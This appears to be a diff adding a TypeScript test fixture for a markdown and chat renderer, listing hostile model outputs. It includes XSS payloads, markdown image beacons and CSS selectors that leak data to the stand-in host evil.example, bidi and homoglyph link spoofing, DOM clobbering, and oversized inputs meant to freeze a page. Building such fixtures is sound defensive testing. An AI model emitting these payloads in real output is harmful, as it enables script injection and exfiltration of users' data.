@@ -1,0 +1,125 @@
+/** Texts of models that mean harm, or have lost their way. Add what you meet. */
+
+const times = (count: number, make: (at: number) => string) =>
+  Array.from({ length: count }, (_, at) => make(at));
+
+/** A server that must never be asked. */
+const evil = "evil.example";
+
+/** Each is a whole text. What is said after it must be readable all the same. */
+export const attacks: Record<string, string> = {
+  scripts: [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    '<a href="#" onclick="alert(1)" style="position:fixed;inset:0">a</a>',
+    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<input autofocus onfocus=alert(1)>",
+    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
+    `<script type="speculationrules">{"prerender":[{"urls":["https://${evil}/"]}]}</script>`,
+  ].join("\n\n"),
+  frames: [
+    `<iframe src="https://${evil}/" srcdoc="<script>parent.alert(1)</script>"></iframe>`,
+    `<form action="https://${evil}/"><input name=q value=secret><button>Continue</button></form>`,
+    `<meta http-equiv="refresh" content="0;url=https://${evil}/">`,
+    `<base href="https://${evil}/">`,
+    `<link rel="stylesheet" href="https://${evil}/a.css"><link rel="dns-prefetch" href="//${evil}">`,
+    `<style>@import "https://${evil}/a.css"; input[value^="s"]{background:url(https://${evil}/s)} body{display:none}</style>`,
+    `<p style="background:url(https://${evil}/p);position:fixed;inset:0;z-index:9999">over all</p>`,
+    `<video src="https://${evil}/v" poster="https://${evil}/p" autoplay></video><audio src="https://${evil}/a">`,
+    `<picture><source srcset="https://${evil}/s"><img srcset="https://${evil}/s 2x"></picture>`,
+    `<table background="https://${evil}/t"><tr><td background="https://${evil}/d">x</td></tr></table>`,
+    `<portal src="https://${evil}/"></portal><dialog open>Sign in again</dialog>`,
+  ].join("\n\n"),
+  links: [
+    "[a](javascript:alert(1))",
+    "[b](JaVa&#x53;cript:alert(1))",
+    "[c](  java\nscript:alert(1))",
+    "[d](vbscript:msgbox(1))",
+    "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "<javascript:alert(1)>",
+    "[f](javascript&colon;alert(1))",
+    "[g](\u0001javascript:alert(1))",
+    "[h](file:///etc/passwd)",
+    "[i](blob:https://evil.example/1)",
+    "[j](//evil.example/relative)",
+    "[k](/api/user)",
+    "[l][ref]\n\n[ref]: javascript:alert(1) 'x'",
+    '[m](https://example.org/ "onmouseover=alert(1)")',
+    "[n](intent://evil#Intent;end) [o](ms-msdt:/id) [p](tel:+123) [q](xmpp:a@b)",
+  ].join("\n\n"),
+  images: [
+    `![a](https://${evil}/beacon?text=secret)`,
+    `![b](//${evil}/b) ![c](http://127.0.0.1:1/c) ![d](data:image/svg+xml,<svg/onload=alert(1)>)`,
+    `<img src="https://${evil}/html">`,
+    `[![e](https://${evil}/e)](https://${evil}/f)`,
+    `![f][i]\n\n[i]: https://${evil}/i`,
+    `![${"long ".repeat(200)}](https://${evil}/g)`,
+    `![h](https://${evil}/${"x".repeat(3000)})`,
+  ].join("\n\n"),
+  clobbering: [
+    '<form id="root" name="body"><input name="attributes"><input name="getElementById"></form>',
+    '<a id="main"></a><a id="defaultView" name="location"></a><img name="getElementById">',
+    "# root\n\n# main\n\n[^root]\n\n[^root]: x\n\n[^__proto__]\n\n[^__proto__]: y",
+    "[__proto__]: https://example.org\n\n[constructor]: https://example.org\n\nSee [constructor] and [__proto__].",
+  ].join("\n\n"),
+  directions: [
+    "https://example.org/\u202Egpj.exe and www.\u202Eelpmaxe.live",
+    "[\u202Eelpmaxe.knab//:sptth](https://evil.example/)",
+    "https://bank.example@evil.example/login and [https://bank.example](https://evil.example)",
+    "[https://аррӏе.example](https://аррӏе.example)",
+    "شكرا على السؤال. هذا جواب باللغة العربية with some English.",
+    "- פריט ראשון\n- item\n\n| א | b |\n|---|---|\n| ג | d |",
+    "Text \u202E turned over \u2066 and isolated, never closed",
+    '```js\nif (user != "admin\u202E \u2066// check\u2069 \u2066") {}\n```',
+    `${"Z̷͎".repeat(200)} ${"\u200B".repeat(500)} ${"﷽".repeat(50)} ${"👩‍👩‍👧‍👦".repeat(50)}`,
+  ].join("\n\n"),
+  maths: [
+    "$$\\def\\a#1{\\b{#1}\\b{#1}}\\def\\b#1{\\c{#1}\\c{#1}}\\def\\c#1{\\a{#1}\\a{#1}}\\a{x}$$",
+    `$$\\href{javascript:alert(1)}{x} \\url{https://${evil}} \\includegraphics{https://${evil}/m}$$`,
+    `$$\\htmlStyle{background:url(https://${evil}/k)}{x}\\htmlId{root}{y}\\htmlClass{answer}{z}$$`,
+    "$$\\rule{100000em}{100000em}\\kern{100000em}$$",
+    `$$${"{".repeat(1500)}x${"}".repeat(1500)}$$`,
+    `$$${"\\frac{1}{".repeat(300)}x${"}".repeat(300)}$$`,
+    `$$${"\\sqrt{".repeat(600)}$$`,
+    `$$${"x^2+".repeat(20_000)}1$$`,
+    `\\[ ${"\\begin{matrix}".repeat(200)} \\]`,
+    times(300, (at) => `$$x_{${at}}$$`).join(" "),
+  ].join("\n\n"),
+  emphasis: `${"*a **b ".repeat(150)}${"b** a* ".repeat(150)}\n\n${"[a ![b ".repeat(50)}${"](x) ](y)".repeat(50)}`,
+  unclosed: `**bold [link](https://${evil}/ \`code $$x \n\n| a | b |\n|---|---|\n| <b> | \n\n~~~html\n<script>alert(1)</script>\n${"<img src=x onerror=alert(1)>\n".repeat(30)}`,
+};
+
+/** What would hold the page up: each of it large. */
+export const bombs: Record<string, string> = {
+  line: "word ".repeat(200_000),
+  solid: "x".repeat(1_000_000),
+  list: times(
+    10_000,
+    (at) => `- item ${at} with **bold** and [a link](https://example.org/${at})`,
+  ).join("\n"),
+  numbered: times(10_000, (at) => `${at + 1}. item ${at}`).join("\n"),
+  table: [
+    `|${" head |".repeat(50)}`,
+    `|${"---|".repeat(50)}`,
+    ...times(1_000, (row) => `|${times(50, (column) => ` ${row}.${column} |`).join("")}`),
+  ].join("\n"),
+  quotes: `${">".repeat(10_000)} deep`,
+  brackets: `${"[".repeat(10_000)}\n\n${"[a](".repeat(3_000)}\n\n${"![".repeat(5_000)}`,
+  nested: `${times(500, (at) => `${"  ".repeat(at)}- a`).join("\n")}\n\n${"- ".repeat(5_000)}x`,
+  emphasis: `${"**a_".repeat(10_000)}\n\n${"*a ".repeat(10_000)}\n\n${"~~a".repeat(10_000)}`,
+  footnotes: `${times(3_000, (at) => `[^${at}]`).join(" ")}\n\n${times(3_000, (at) => `[^${at}]: note`).join("\n\n")}`,
+  definitions: `${times(5_000, (at) => `[d${at}]: https://example.org/${at}`).join("\n")}\n\n${times(5_000, (at) => `[d${at}] `).join("")}`,
+  entities: `${"&amp;".repeat(100_000)}\n\n${"\\".repeat(50_000)}\n\n${"<div ".repeat(10_000)}`,
+  code: `\`\`\`rust\n${'fn main() { println!("a"); }\n'.repeat(20_000)}`,
+  fences: "```\n".repeat(10_000),
+  paragraphs: times(20_000, (at) => `Paragraph ${at}.`).join("\n\n"),
+  autolinks: "https://example.org/ a@example.org ".repeat(10_000),
+};
